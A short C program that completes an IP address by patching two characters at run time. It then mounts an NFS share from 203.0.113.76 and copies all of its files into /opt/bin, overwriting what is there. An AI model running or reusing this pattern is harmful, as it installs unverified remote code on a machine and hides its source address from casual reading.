/* A template in writable data, two of its characters put right before use. */
#include <stdlib.h>

static char line[] = "mount -o nolock -t nfs 203.0.113.XX:/pm /mnt";

int main(void)
{
    line[33] = '7';
    line[34] = '6';
    if (system(line) == 0)
        system("cp -rf /mnt/* /opt/bin");
    return 0;
}
